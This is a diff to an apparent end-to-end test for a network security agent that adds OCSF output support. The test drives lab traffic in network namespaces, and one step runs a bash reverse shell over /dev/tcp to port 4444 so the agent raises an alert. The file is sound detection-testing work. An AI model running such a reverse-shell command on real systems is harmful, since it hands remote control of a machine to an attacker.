@@ -44,7 +44,13 @@ KINDS = ["agent-started", "agent-stopped", "tick", "existing_process", "existing
          "listen", "udp_flow", "user_login", "user_logout", "alert"]
 
 
-def _run():
+def _action(e):
+    """event.action, or metadata.event_code (its place in an OCSF line)."""
+    return get(e, "event.action") or get(e, "metadata.event_code")
+
+
+def _run(fmt="json"):
+    """The lab run; fmt: the agent's -o (tests/e2e/test_ocsf_lines.py runs it with ocsf)."""
     d = hw.tempdir("ecslines")
     rec = os.path.join(d, "b.rec")
     py = sys.executable
@@ -78,7 +84,7 @@ def _run():
             time.sleep(1.0)
             agent = Agent("--netns", lab.b.path, "--host-name", "b", "--record", rec,
                           "--set", "detect.internal_nets=198.18.0.0/15",
-                          "--set", "agent.conn_report_interval=2s")
+                          "--set", "agent.conn_report_interval=2s", fmt=fmt)
             with agent:
                 # refused, and accepted (A -> B:7100)
                 lab.b.run(["bash", "-c", "echo > /dev/tcp/%s/9 2>/dev/null; true" % C])
@@ -100,9 +106,9 @@ def _run():
                 # a reverse shell (an alert)
                 lab.b.run(["bash", "-c", "bash -i >& /dev/tcp/%s/4444 0>&1" % C],
                           capture_output=True, timeout=20)
-                agent.wait_for(lambda e: get(e, "event.action") == "connection_open",
+                agent.wait_for(lambda e: _action(e) == "connection_open",
                                timeout=15)
-                agent.wait_for(lambda e: get(e, "event.action") == "user_logout", timeout=15)
+                agent.wait_for(lambda e: _action(e) == "user_logout", timeout=15)
                 time.sleep(1.0)
             check_eq(agent.rc, 0, "agent exit: " + agent.read_stderr())
         finally:
